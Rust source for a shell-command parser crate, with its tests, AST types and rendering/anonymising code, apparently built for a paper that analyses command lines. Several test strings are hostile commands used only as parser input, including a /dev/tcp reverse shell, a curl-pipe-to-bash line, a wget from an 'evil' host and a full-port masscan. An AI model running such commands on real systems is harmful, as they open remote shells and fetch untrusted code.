    #[test]
    fn unbalanced_close_is_error() {
        assert!(matches!(
            parse("ls)"),
            Err(ParseError::UnbalancedGroup { delimiter: ')' })
        ));
    }

    #[test]
    fn brace_group() {
        let s = parse("{ echo a; echo b; }").unwrap();
        match &s.lists[0].first.commands[0] {
            Command::Group(inner) => assert_eq!(inner.command_names(), vec!["echo", "echo"]),
            other => panic!("expected group, got {other:?}"),
        }
    }

    #[test]
    fn unclosed_brace_group_is_error() {
        assert!(matches!(
            parse("{ echo a;"),
            Err(ParseError::UnclosedGroup { delimiter: '{' })
        ));
    }

    #[test]
    fn assignment_prefix() {
        let s = parse("PATH=/usr/bin ls").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.assignments.len(), 1);
        assert_eq!(cmd.assignments[0].name, "PATH");
        assert_eq!(cmd.assignments[0].value, "/usr/bin");
        assert_eq!(cmd.name(), Some("ls"));
    }

    #[test]
    fn assignment_after_name_is_argument() {
        let s = parse("env FOO=bar").unwrap();
        let cmd = s.simple_commands()[0];
        // `env` sees FOO=bar as a word, not an assignment prefix.
        assert!(cmd.assignments.is_empty());
        assert_eq!(cmd.words.len(), 2);
    }

    #[test]
    fn export_proxy_example() {
        let s = parse(r#"export https_proxy="socks5://10.0.0.5:1080""#).unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.name(), Some("export"));
        assert_eq!(cmd.words[1].text, "https_proxy=socks5://10.0.0.5:1080");
    }

    #[test]
    fn negated_pipeline() {
        let s = parse("! grep -q root /etc/passwd").unwrap();
        assert!(s.lists[0].first.negated);
        assert_eq!(s.command_names(), vec!["grep"]);
    }

    #[test]
    fn herestring_target() {
        let s = parse("base64 -d <<< aGVsbG8=").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.redirects[0].op, RedirectOp::HereString);
        assert_eq!(cmd.redirects[0].target.text, "aGVsbG8=");
    }

    #[test]
    fn watch_nvidia_smi_example() {
        // Figure 1's inference-side example.
        let s = parse("watch -n 1 nvidia-smi").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.name(), Some("watch"));
        let flags: Vec<_> = cmd.flags().map(|w| w.text.as_str()).collect();
        assert_eq!(flags, vec!["-n"]);
    }

    #[test]
    fn double_semi_is_error_outside_case() {
        assert!(parse("ls ;; pwd").is_err());
    }
}
