//! Abstract syntax tree for parsed command lines.
//!
//! The tree mirrors what the paper needs from `bashlex`: a structure of
//! command nodes from which command *names*, *flags* and *arguments* can
//! be separated (Section II-A).

use crate::token::{Operator, Word};
use crate::word::WordUnit;
use serde::{Deserialize, Serialize};

/// A variable assignment prefix (`FOO=bar cmd …`) or a standalone
/// assignment line (`https_proxy="http://…"`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Assignment {
    /// Variable name left of `=`.
    pub name: String,
    /// Assigned value with quotes resolved.
    pub value: String,
    /// Raw source text of the whole assignment word.
    pub raw: String,
    /// Syntax-layer units of the whole assignment word, so expansions
    /// on the right-hand side stay visible to structural analysis.
    pub units: Vec<WordUnit>,
}

/// The operator of a redirection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RedirectOp {
    /// `<`
    In,
    /// `>`
    Out,
    /// `>>`
    Append,
    /// `<<` followed by a delimiter word
    Heredoc,
    /// `<<-` heredoc with leading tabs stripped
    HeredocStrip,
    /// `<<<` here-string
    HereString,
    /// `<&` duplicate input fd
    DupIn,
    /// `>&` duplicate output fd
    DupOut,
    /// `<>` open read-write
    ReadWrite,
    /// `>|` clobber
    Clobber,
}

impl RedirectOp {
    /// Converts a lexer operator into a redirect operator, if it is one.
    pub fn from_operator(op: Operator) -> Option<Self> {
        Some(match op {
            Operator::Less => RedirectOp::In,
            Operator::Great => RedirectOp::Out,
            Operator::DGreat => RedirectOp::Append,
            Operator::DLess => RedirectOp::Heredoc,
            Operator::DLessDash => RedirectOp::HeredocStrip,
            Operator::TLess => RedirectOp::HereString,
            Operator::LessAnd => RedirectOp::DupIn,
            Operator::GreatAnd => RedirectOp::DupOut,
            Operator::LessGreat => RedirectOp::ReadWrite,
            Operator::Clobber => RedirectOp::Clobber,
            _ => return None,
        })
    }

    /// Source form of the operator.
    pub fn as_str(self) -> &'static str {
        match self {
            RedirectOp::In => "<",
            RedirectOp::Out => ">",
            RedirectOp::Append => ">>",
            RedirectOp::Heredoc => "<<",
            RedirectOp::HeredocStrip => "<<-",
            RedirectOp::HereString => "<<<",
            RedirectOp::DupIn => "<&",
            RedirectOp::DupOut => ">&",
            RedirectOp::ReadWrite => "<>",
            RedirectOp::Clobber => ">|",
        }
    }
}

/// A redirection attached to a command (`2>/dev/null`, `>> log`, `0>&1`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Redirect {
    /// Explicit file descriptor, if one prefixed the operator.
    pub fd: Option<u32>,
    /// The redirection operator.
    pub op: RedirectOp,
    /// Redirection target (filename, fd number, delimiter or word).
    pub target: Word,
    /// For `<<` / `<<-`: the body collected from the lines after the
    /// operator line. `None` when the input ended on the operator line
    /// itself (a prompt-style fragment like `cat << EOF`).
    pub heredoc_body: Option<String>,
}

/// A simple command: optional assignment prefixes, words, redirections.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
pub struct SimpleCommand {
    /// `VAR=value` prefixes.
    pub assignments: Vec<Assignment>,
    /// Command name followed by flags and arguments, in order.
    pub words: Vec<Word>,
    /// Redirections in source order.
    pub redirects: Vec<Redirect>,
}

impl SimpleCommand {
    /// The command name: the first word, with any directory prefix kept.
    ///
    /// `None` for assignment-only commands such as `FOO=bar`.
    pub fn name(&self) -> Option<&str> {
        self.words.first().map(|w| w.text.as_str())
    }

    /// The command name with any leading path stripped
    /// (`/usr/bin/python3` → `python3`).
    pub fn base_name(&self) -> Option<&str> {
        self.name().map(|n| n.rsplit('/').next().unwrap_or(n))
    }

    /// Words after the name that look like flags (`-x`, `--long`).
    pub fn flags(&self) -> impl Iterator<Item = &Word> {
        self.words.iter().skip(1).filter(|w| w.is_flag())
    }

    /// Words after the name that are positional arguments (not flags).
    pub fn args(&self) -> impl Iterator<Item = &Word> {
        self.words.iter().skip(1).filter(|w| !w.is_flag())
    }
}

/// One element of a pipeline.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Command {
    /// An ordinary command invocation.
    Simple(SimpleCommand),
    /// A `( … )` subshell.
    Subshell(Box<Script>),
    /// A `{ …; }` brace group.
    Group(Box<Script>),
    /// A `for x in …; do …; done` loop.
    For(Box<ForClause>),
    /// A `while …; do …; done` or `until …; do …; done` loop.
    While(Box<LoopClause>),
    /// An `if …; then …; fi` conditional with optional `elif`/`else`.
    If(Box<IfClause>),
    /// A `case … in …; esac` dispatch.
    Case(Box<CaseClause>),
    /// A `name() { …; }` / `function name { … }` definition.
    FunctionDef(Box<FunctionDef>),
}

impl Command {
    /// Returns the simple command if this node is one.
    pub fn as_simple(&self) -> Option<&SimpleCommand> {
        match self {
            Command::Simple(c) => Some(c),
            _ => None,
        }
    }
}

/// A `for` loop.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ForClause {
    /// The loop variable.
    pub var: Word,
    /// The `in …` word list; `None` when the `in` clause was omitted
    /// (iterating `"$@"`), `Some(vec![])` for an explicit empty `in;`.
    pub words: Option<Vec<Word>>,
    /// The `do …; done` body.
    pub body: Script,
}

/// A `while` or `until` loop.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LoopClause {
    /// `true` for `until`, `false` for `while`.
    pub until: bool,
    /// The condition list before `do`.
    pub condition: Script,
    /// The `do …; done` body.
    pub body: Script,
}

/// An `if`/`elif`/`else` conditional.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct IfClause {
    /// `(condition, then-body)` for the `if` branch and each `elif`.
    pub branches: Vec<(Script, Script)>,
    /// The `else` body, if present.
    pub else_body: Option<Script>,
}

/// One `pattern) body ;;` arm of a `case`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CaseArm {
    /// The `|`-separated patterns.
    pub patterns: Vec<Word>,
    /// The arm body (possibly empty).
    pub body: Script,
}

/// A `case` dispatch.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CaseClause {
    /// The word being matched.
    pub subject: Word,
    /// The arms in source order.
    pub arms: Vec<CaseArm>,
}

/// A function definition.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FunctionDef {
    /// The function name.
    pub name: Word,
    /// The body command (usually a brace group).
    pub body: Command,
}

/// A pipeline: commands joined by `|` or `|&`, optionally negated by `!`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Pipeline {
    /// `true` if the pipeline was prefixed with `!`.
    pub negated: bool,
    /// The commands in pipe order (at least one).
    pub commands: Vec<Command>,
}

/// Connector between pipelines in an and-or list.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Connector {
    /// `&&`
    AndIf,
    /// `||`
    OrIf,
}

impl Connector {
    /// Source form of the connector.
    pub fn as_str(self) -> &'static str {
        match self {
            Connector::AndIf => "&&",
            Connector::OrIf => "||",
        }
    }
}

/// Pipelines joined by `&&`/`||`, possibly sent to the background.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AndOrList {
    /// The first pipeline.
    pub first: Pipeline,
    /// Subsequent pipelines with their connectors.
    pub rest: Vec<(Connector, Pipeline)>,
    /// `true` if the list was terminated by `&`.
    pub background: bool,
}

/// A full parsed command line: and-or lists separated by `;`, `&` or
/// newlines.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Script {
    /// The lists in source order. At least one at top level (empty
    /// input parses to [`crate::ParseError::Empty`] instead); possibly
    /// empty for compound-command bodies such as a bare `case` arm.
    pub lists: Vec<AndOrList>,
}

impl Script {
    /// Iterates over every [`SimpleCommand`] in the tree, depth-first and
    /// in source order, descending into subshells and groups.
    pub fn simple_commands(&self) -> Vec<&SimpleCommand> {
        let mut out = Vec::new();
        for list in &self.lists {
            collect_pipeline(&list.first, &mut out);
            for (_, p) in &list.rest {
                collect_pipeline(p, &mut out);
            }
        }
        out
    }

    /// All command names in the tree, in execution order.
    ///
    /// ```
    /// use shell_parser::parse;
    /// let s = parse("df -h | grep /data && echo ok")?;
    /// assert_eq!(s.command_names(), vec!["df", "grep", "echo"]);
    /// # Ok::<(), shell_parser::ParseError>(())
    /// ```
    pub fn command_names(&self) -> Vec<&str> {
        self.simple_commands()
            .into_iter()
            .filter_map(|c| c.name())
            .collect()
    }

    /// All command base names (path prefixes stripped).
    pub fn base_names(&self) -> Vec<&str> {
        self.simple_commands()
            .into_iter()
            .filter_map(|c| c.base_name())
            .collect()
    }

    /// Total number of simple commands in the tree.
    pub fn len(&self) -> usize {
        self.simple_commands().len()
    }

    /// `true` if the script holds no simple commands.
    pub fn is_empty(&self) -> bool {
        self.simple_commands().is_empty()
    }
}

fn collect_pipeline<'a>(p: &'a Pipeline, out: &mut Vec<&'a SimpleCommand>) {
    for cmd in &p.commands {
        collect_command(cmd, out);
    }
}

fn collect_command<'a>(cmd: &'a Command, out: &mut Vec<&'a SimpleCommand>) {
    match cmd {
        Command::Simple(c) => out.push(c),
        Command::Subshell(s) | Command::Group(s) => {
            out.extend(s.simple_commands());
        }
        Command::For(f) => out.extend(f.body.simple_commands()),
        Command::While(l) => {
            out.extend(l.condition.simple_commands());
            out.extend(l.body.simple_commands());
        }
        Command::If(i) => {
            for (cond, body) in &i.branches {
                out.extend(cond.simple_commands());
                out.extend(body.simple_commands());
            }
            if let Some(e) = &i.else_body {
                out.extend(e.simple_commands());
            }
        }
        Command::Case(c) => {
            for arm in &c.arms {
                out.extend(arm.body.simple_commands());
            }
        }
        Command::FunctionDef(f) => collect_command(&f.body, out),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    #[test]
    fn name_flag_arg_separation() {
        let s = parse("masscan 10.0.0.1 -p 0-65535 --rate=1000").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.name(), Some("masscan"));
        let flags: Vec<_> = cmd.flags().map(|w| w.text.as_str()).collect();
        assert_eq!(flags, vec!["-p", "--rate=1000"]);
        let args: Vec<_> = cmd.args().map(|w| w.text.as_str()).collect();
        assert_eq!(args, vec!["10.0.0.1", "0-65535"]);
    }

    #[test]
    fn base_name_strips_path() {
        let s = parse("/usr/local/bin/python3 x.py").unwrap();
        assert_eq!(s.simple_commands()[0].base_name(), Some("python3"));
        assert_eq!(
            s.simple_commands()[0].name(),
            Some("/usr/local/bin/python3")
        );
    }

    #[test]
    fn command_names_cross_pipeline_and_lists() {
        let s = parse("curl https://a/b.sh | bash; ls && pwd").unwrap();
        assert_eq!(s.command_names(), vec!["curl", "bash", "ls", "pwd"]);
        assert_eq!(s.len(), 4);
        assert!(!s.is_empty());
    }

    #[test]
    fn subshell_commands_are_collected() {
        let s = parse("(cd /tmp && ls) | wc -l").unwrap();
        assert_eq!(s.command_names(), vec!["cd", "ls", "wc"]);
    }

    #[test]
    fn assignment_only_command_has_no_name() {
        let s = parse(r#"export https_proxy="http://proxy:8080""#).unwrap();
        // `export` is the command; the assignment-ish token is its argument.
        assert_eq!(s.command_names(), vec!["export"]);
        let s2 = parse("FOO=bar").unwrap();
        assert_eq!(s2.simple_commands()[0].name(), None);
        assert_eq!(s2.simple_commands()[0].assignments[0].name, "FOO");
    }

    #[test]
    fn redirect_op_round_trip() {
        for (op, s) in [
            (RedirectOp::In, "<"),
            (RedirectOp::Out, ">"),
            (RedirectOp::Append, ">>"),
            (RedirectOp::Heredoc, "<<"),
            (RedirectOp::HeredocStrip, "<<-"),
            (RedirectOp::HereString, "<<<"),
            (RedirectOp::DupIn, "<&"),
            (RedirectOp::DupOut, ">&"),
            (RedirectOp::ReadWrite, "<>"),
            (RedirectOp::Clobber, ">|"),
        ] {
            assert_eq!(op.as_str(), s);
        }
    }

    #[test]
    fn from_operator_rejects_control_ops() {
        assert_eq!(RedirectOp::from_operator(Operator::Pipe), None);
        assert_eq!(
            RedirectOp::from_operator(Operator::DGreat),
            Some(RedirectOp::Append)
        );
    }
}
