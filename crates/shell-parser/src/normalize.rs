//! Canonical re-rendering and anonymization of parsed command lines.
//!
//! [`render`] turns a [`Script`] back into a canonical single-line string
//! (uniform spacing, original quoting kept via each word's raw slice).
//! [`mask_arguments`] reproduces the paper's anonymized presentation style
//! (`cd ********` in Figure 2): command names and flags are kept, every
//! argument is replaced by `*`.

use crate::ast::{Command, Pipeline, Redirect, Script, SimpleCommand};

/// Renders a parsed script back to a canonical command-line string.
///
/// Words keep their original quoting (the raw source slice); spacing and
/// separators are normalized to single spaces, `; ` between lists and
/// ` | `, ` && `, ` || ` between commands.
///
/// ```
/// use shell_parser::{parse, render};
/// let s = parse("df   -h|grep '/data'")?;
/// assert_eq!(render(&s), "df -h | grep '/data'");
/// # Ok::<(), shell_parser::ParseError>(())
/// ```
pub fn render(script: &Script) -> String {
    let mut out = String::new();
    for (i, list) in script.lists.iter().enumerate() {
        if i > 0 {
            out.push_str("; ");
        }
        render_pipeline(&list.first, &mut out);
        for (conn, p) in &list.rest {
            out.push(' ');
            out.push_str(conn.as_str());
            out.push(' ');
            render_pipeline(p, &mut out);
        }
        if list.background {
            out.push_str(" &");
        }
    }
    out
}

fn render_pipeline(p: &Pipeline, out: &mut String) {
    if p.negated {
        out.push_str("! ");
    }
    for (i, cmd) in p.commands.iter().enumerate() {
        if i > 0 {
            out.push_str(" | ");
        }
        render_command(cmd, out);
    }
}

fn render_command(cmd: &Command, out: &mut String) {
    match cmd {
        Command::Simple(c) => render_simple(c, out),
        Command::Subshell(inner) => {
            out.push('(');
            out.push_str(&render(inner));
            out.push(')');
        }
        Command::Group(inner) => {
            out.push_str("{ ");
            out.push_str(&render(inner));
            out.push_str("; }");
        }
    }
}

fn render_simple(c: &SimpleCommand, out: &mut String) {
    let mut first = true;
    for a in &c.assignments {
        if !first {
            out.push(' ');
        }
        out.push_str(&a.raw);
        first = false;
    }
    for w in &c.words {
        if !first {
            out.push(' ');
        }
        out.push_str(&w.raw);
        first = false;
    }
    for r in &c.redirects {
        if !first {
            out.push(' ');
        }
        render_redirect(r, out);
        first = false;
    }
}

fn render_redirect(r: &Redirect, out: &mut String) {
    if let Some(fd) = r.fd {
        out.push_str(&fd.to_string());
    }
    out.push_str(r.op.as_str());
    out.push_str(&r.target.raw);
}

/// Replaces every non-flag argument with `*`, keeping command names and
/// flags — the anonymized form used throughout the paper's tables.
///
/// ```
/// use shell_parser::{parse, mask_arguments};
/// let s = parse("masscan 10.1.2.3 -p 0-65535 --rate=1000")?;
/// assert_eq!(mask_arguments(&s), "masscan * -p * --rate=1000");
/// # Ok::<(), shell_parser::ParseError>(())
/// ```
pub fn mask_arguments(script: &Script) -> String {
    let mut out = String::new();
    for (i, list) in script.lists.iter().enumerate() {
        if i > 0 {
            out.push_str("; ");
        }
        mask_pipeline(&list.first, &mut out);
        for (conn, p) in &list.rest {
            out.push(' ');
            out.push_str(conn.as_str());
            out.push(' ');
            mask_pipeline(p, &mut out);
        }
        if list.background {
            out.push_str(" &");
        }
    }
    out
}

fn mask_pipeline(p: &Pipeline, out: &mut String) {
    for (i, cmd) in p.commands.iter().enumerate() {
        if i > 0 {
            out.push_str(" | ");
        }
        match cmd {
            Command::Simple(c) => mask_simple(c, out),
            Command::Subshell(inner) => {
                out.push('(');
                out.push_str(&mask_arguments(inner));
                out.push(')');
            }
            Command::Group(inner) => {
                out.push_str("{ ");
                out.push_str(&mask_arguments(inner));
                out.push_str("; }");
            }
        }
    }
}

fn mask_simple(c: &SimpleCommand, out: &mut String) {
    let mut first = true;
    for a in &c.assignments {
        if !first {
            out.push(' ');
        }
        out.push_str(&a.name);
        out.push_str("=*");
        first = false;
    }
    for (i, w) in c.words.iter().enumerate() {
        if !first {
            out.push(' ');
        }
        if i == 0 || w.is_flag() {
            out.push_str(&w.text);
        } else {
            out.push('*');
        }
        first = false;
    }
    for r in &c.redirects {
        if !first {
            out.push(' ');
        }
        if let Some(fd) = r.fd {
            out.push_str(&fd.to_string());
        }
        out.push_str(r.op.as_str());
        out.push('*');
        first = false;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    #[test]
    fn render_normalizes_spacing() {
        let s = parse("ls    -la     /tmp").unwrap();
        assert_eq!(render(&s), "ls -la /tmp");
    }

    #[test]
    fn render_keeps_quotes() {
        let s = parse(r#"php -r "phpinfo();""#).unwrap();
        assert_eq!(render(&s), r#"php -r "phpinfo();""#);
    }

    #[test]
    fn render_pipeline_and_lists() {
        let s = parse("a|b&&c;d&").unwrap();
        assert_eq!(render(&s), "a | b && c; d &");
    }

    #[test]
    fn render_redirects() {
        let s = parse("cmd 2>/dev/null >>log").unwrap();
        assert_eq!(render(&s), "cmd 2>/dev/null >>log");
    }

    #[test]
    fn render_subshell_and_group() {
        let s = parse("(cd /x && ls) | wc").unwrap();
        assert_eq!(render(&s), "(cd /x && ls) | wc");
        let g = parse("{ echo a; echo b; }").unwrap();
        assert_eq!(render(&g), "{ echo a; echo b; }");
    }

    #[test]
    fn render_parse_round_trip_is_stable() {
        for line in [
            "curl https://h/x.sh | bash",
            "bash -i >&/dev/tcp/1.2.3.4/9001 0>&1",
            "PATH=/usr/bin ls -la && pwd; echo done &",
            "! grep -q x f",
        ] {
            let once = render(&parse(line).unwrap());
            let twice = render(&parse(&once).unwrap());
            assert_eq!(once, twice, "unstable rendering for {line:?}");
        }
    }

    #[test]
    fn mask_keeps_names_and_flags() {
        let s = parse("docker attach --sig-proxy=false mycontainer").unwrap();
        assert_eq!(mask_arguments(&s), "docker * --sig-proxy=false *");
    }

    #[test]
    fn mask_handles_assignments_and_redirects() {
        let s = parse("FOO=secret cmd arg > out.txt").unwrap();
        assert_eq!(mask_arguments(&s), "FOO=* cmd * >*");
    }

    #[test]
    fn mask_recurses_into_subshell() {
        let s = parse("(wget http://evil/x)").unwrap();
        assert_eq!(mask_arguments(&s), "(wget *)");
    }
}
