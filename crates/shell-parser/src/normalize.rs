//! Canonical re-rendering and anonymization of parsed command lines.
//!
//! [`render`] turns a [`Script`] back into a canonical string (uniform
//! spacing, original quoting kept via each word's raw slice; here-doc
//! bodies re-emitted after the command line). [`mask_arguments`]
//! reproduces the paper's anonymized presentation style
//! (`cd ********` in Figure 2): command names and flags are kept, every
//! argument is replaced by `*`.
//!
//! Rendering is the inverse of parsing: `parse(render(ast)) ≡ ast`
//! (modulo nothing — the equality is structural, pinned by the crate's
//! round-trip tests).

use crate::ast::{Command, Pipeline, Redirect, RedirectOp, Script, SimpleCommand};

/// Renders a parsed script back to a canonical command-line string.
///
/// Words keep their original quoting (the raw source slice); spacing and
/// separators are normalized to single spaces, `; ` between lists and
/// ` | `, ` && `, ` || ` between commands. Here-document bodies are
/// appended after the command line, each terminated by its delimiter.
///
/// ```
/// use shell_parser::{parse, render};
/// let s = parse("df   -h|grep '/data'")?;
/// assert_eq!(render(&s), "df -h | grep '/data'");
/// # Ok::<(), shell_parser::ParseError>(())
/// ```
pub fn render(script: &Script) -> String {
    let mut out = String::new();
    let mut heredocs: Vec<(String, String)> = Vec::new();
    render_script(script, &mut out, &mut heredocs);
    for (delim, body) in heredocs {
        out.push('\n');
        out.push_str(&body);
        out.push_str(&delim);
    }
    out
}

fn render_script(script: &Script, out: &mut String, heredocs: &mut Vec<(String, String)>) {
    for (i, list) in script.lists.iter().enumerate() {
        if i > 0 {
            out.push_str("; ");
        }
        render_pipeline(&list.first, out, heredocs);
        for (conn, p) in &list.rest {
            out.push(' ');
            out.push_str(conn.as_str());
            out.push(' ');
            render_pipeline(p, out, heredocs);
        }
        if list.background {
            out.push_str(" &");
        }
    }
}

fn render_pipeline(p: &Pipeline, out: &mut String, heredocs: &mut Vec<(String, String)>) {
    if p.negated {
        out.push_str("! ");
    }
    for (i, cmd) in p.commands.iter().enumerate() {
        if i > 0 {
            out.push_str(" | ");
        }
        render_command(cmd, out, heredocs);
    }
}

fn render_command(cmd: &Command, out: &mut String, heredocs: &mut Vec<(String, String)>) {
    match cmd {
        Command::Simple(c) => render_simple(c, out, heredocs),
        Command::Subshell(inner) => {
            out.push('(');
            render_script(inner, out, heredocs);
            out.push(')');
        }
        Command::Group(inner) => {
            out.push_str("{ ");
            render_script(inner, out, heredocs);
            out.push_str("; }");
        }
        Command::For(f) => {
            out.push_str("for ");
            out.push_str(&f.var.raw);
            if let Some(words) = &f.words {
                out.push_str(" in");
                for w in words {
                    out.push(' ');
                    out.push_str(&w.raw);
                }
            }
            out.push_str("; do ");
            render_script(&f.body, out, heredocs);
            out.push_str("; done");
        }
        Command::While(l) => {
            out.push_str(if l.until { "until " } else { "while " });
            render_script(&l.condition, out, heredocs);
            out.push_str("; do ");
            render_script(&l.body, out, heredocs);
            out.push_str("; done");
        }
        Command::If(i) => {
            for (n, (cond, body)) in i.branches.iter().enumerate() {
                out.push_str(if n == 0 { "if " } else { "; elif " });
                render_script(cond, out, heredocs);
                out.push_str("; then ");
                render_script(body, out, heredocs);
            }
            if let Some(e) = &i.else_body {
                out.push_str("; else ");
                render_script(e, out, heredocs);
            }
            out.push_str("; fi");
        }
        Command::Case(c) => {
            out.push_str("case ");
            out.push_str(&c.subject.raw);
            out.push_str(" in ");
            for arm in &c.arms {
                for (n, p) in arm.patterns.iter().enumerate() {
                    if n > 0 {
                        out.push_str(" | ");
                    }
                    out.push_str(&p.raw);
                }
                out.push_str(") ");
                if !arm.body.lists.is_empty() {
                    render_script(&arm.body, out, heredocs);
                    out.push(' ');
                }
                out.push_str(";; ");
            }
            out.push_str("esac");
        }
        Command::FunctionDef(f) => {
            out.push_str(&f.name.raw);
            out.push_str("() ");
            render_command(&f.body, out, heredocs);
        }
    }
}

fn render_simple(c: &SimpleCommand, out: &mut String, heredocs: &mut Vec<(String, String)>) {
    let mut first = true;
    for a in &c.assignments {
        if !first {
            out.push(' ');
        }
        out.push_str(&a.raw);
        first = false;
    }
    for w in &c.words {
        if !first {
            out.push(' ');
        }
        out.push_str(&w.raw);
        first = false;
    }
    for r in &c.redirects {
        if !first {
            out.push(' ');
        }
        render_redirect(r, out, heredocs);
        first = false;
    }
}

fn render_redirect(r: &Redirect, out: &mut String, heredocs: &mut Vec<(String, String)>) {
    if let Some(fd) = r.fd {
        out.push_str(&fd.to_string());
    }
    out.push_str(r.op.as_str());
    out.push_str(&r.target.raw);
    if matches!(r.op, RedirectOp::Heredoc | RedirectOp::HeredocStrip) {
        if let Some(body) = &r.heredoc_body {
            // The terminator line must match the *unquoted* delimiter
            // text, which is what the lexer compares body lines against.
            heredocs.push((r.target.text.clone(), body.clone()));
        }
    }
}

/// Replaces every non-flag argument with `*`, keeping command names and
/// flags — the anonymized form used throughout the paper's tables.
/// Compound keywords are kept; loop/case words, subjects and patterns
/// are masked like arguments; here-doc bodies are omitted entirely.
///
/// ```
/// use shell_parser::{parse, mask_arguments};
/// let s = parse("masscan 10.1.2.3 -p 0-65535 --rate=1000")?;
/// assert_eq!(mask_arguments(&s), "masscan * -p * --rate=1000");
/// # Ok::<(), shell_parser::ParseError>(())
/// ```
pub fn mask_arguments(script: &Script) -> String {
    let mut out = String::new();
    mask_script(script, &mut out);
    out
}

fn mask_script(script: &Script, out: &mut String) {
    for (i, list) in script.lists.iter().enumerate() {
        if i > 0 {
            out.push_str("; ");
        }
        mask_pipeline(&list.first, out);
        for (conn, p) in &list.rest {
            out.push(' ');
            out.push_str(conn.as_str());
            out.push(' ');
            mask_pipeline(p, out);
        }
        if list.background {
            out.push_str(" &");
        }
    }
}

fn mask_pipeline(p: &Pipeline, out: &mut String) {
    for (i, cmd) in p.commands.iter().enumerate() {
        if i > 0 {
            out.push_str(" | ");
        }
        mask_command(cmd, out);
    }
}

fn mask_command(cmd: &Command, out: &mut String) {
    match cmd {
        Command::Simple(c) => mask_simple(c, out),
        Command::Subshell(inner) => {
            out.push('(');
            mask_script(inner, out);
            out.push(')');
        }
        Command::Group(inner) => {
            out.push_str("{ ");
            mask_script(inner, out);
            out.push_str("; }");
        }
        Command::For(f) => {
            out.push_str("for ");
            out.push_str(&f.var.text);
            if let Some(words) = &f.words {
                out.push_str(" in");
                for _ in words {
                    out.push_str(" *");
                }
            }
            out.push_str("; do ");
            mask_script(&f.body, out);
            out.push_str("; done");
        }
        Command::While(l) => {
            out.push_str(if l.until { "until " } else { "while " });
            mask_script(&l.condition, out);
            out.push_str("; do ");
            mask_script(&l.body, out);
            out.push_str("; done");
        }
        Command::If(i) => {
            for (n, (cond, body)) in i.branches.iter().enumerate() {
                out.push_str(if n == 0 { "if " } else { "; elif " });
                mask_script(cond, out);
                out.push_str("; then ");
                mask_script(body, out);
            }
            if let Some(e) = &i.else_body {
                out.push_str("; else ");
                mask_script(e, out);
            }
            out.push_str("; fi");
        }
        Command::Case(c) => {
            out.push_str("case * in ");
            for arm in &c.arms {
                for (n, _) in arm.patterns.iter().enumerate() {
                    if n > 0 {
                        out.push_str(" | ");
                    }
                    out.push('*');
                }
                out.push_str(") ");
                if !arm.body.lists.is_empty() {
                    mask_script(&arm.body, out);
                    out.push(' ');
                }
                out.push_str(";; ");
            }
            out.push_str("esac");
        }
        Command::FunctionDef(f) => {
            out.push_str(&f.name.text);
            out.push_str("() ");
            mask_command(&f.body, out);
        }
    }
}

fn mask_simple(c: &SimpleCommand, out: &mut String) {
    let mut first = true;
    for a in &c.assignments {
        if !first {
            out.push(' ');
        }
        out.push_str(&a.name);
        out.push_str("=*");
        first = false;
    }
    for (i, w) in c.words.iter().enumerate() {
        if !first {
            out.push(' ');
        }
        if i == 0 || w.is_flag() {
            out.push_str(&w.text);
        } else {
            out.push('*');
        }
        first = false;
    }
    for r in &c.redirects {
        if !first {
            out.push(' ');
        }
        if let Some(fd) = r.fd {
            out.push_str(&fd.to_string());
        }
        out.push_str(r.op.as_str());
        out.push('*');
        first = false;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    #[test]
    fn render_normalizes_spacing() {
        let s = parse("ls    -la     /tmp").unwrap();
        assert_eq!(render(&s), "ls -la /tmp");
    }

    #[test]
    fn render_keeps_quotes() {
        let s = parse(r#"php -r "phpinfo();""#).unwrap();
        assert_eq!(render(&s), r#"php -r "phpinfo();""#);
    }

    #[test]
    fn render_pipeline_and_lists() {
        let s = parse("a|b&&c;d&").unwrap();
        assert_eq!(render(&s), "a | b && c; d &");
    }

    #[test]
    fn render_redirects() {
        let s = parse("cmd 2>/dev/null >>log").unwrap();
        assert_eq!(render(&s), "cmd 2>/dev/null >>log");
    }

    #[test]
    fn render_subshell_and_group() {
        let s = parse("(cd /x && ls) | wc").unwrap();
        assert_eq!(render(&s), "(cd /x && ls) | wc");
        let g = parse("{ echo a; echo b; }").unwrap();
        assert_eq!(render(&g), "{ echo a; echo b; }");
    }

    #[test]
    fn render_parse_round_trip_is_stable() {
        for line in [
            "curl https://h/x.sh | bash",
            "bash -i >&/dev/tcp/1.2.3.4/9001 0>&1",
            "PATH=/usr/bin ls -la && pwd; echo done &",
            "! grep -q x f",
        ] {
            let once = render(&parse(line).unwrap());
            let twice = render(&parse(&once).unwrap());
            assert_eq!(once, twice, "unstable rendering for {line:?}");
        }
    }

    #[test]
    fn render_heredoc_reemits_body() {
        let s = parse("cat << EOF\nalpha\nbeta\nEOF").unwrap();
        assert_eq!(render(&s), "cat <<EOF\nalpha\nbeta\nEOF");
        // and the round trip restores the same AST
        let again = parse(&render(&s)).unwrap();
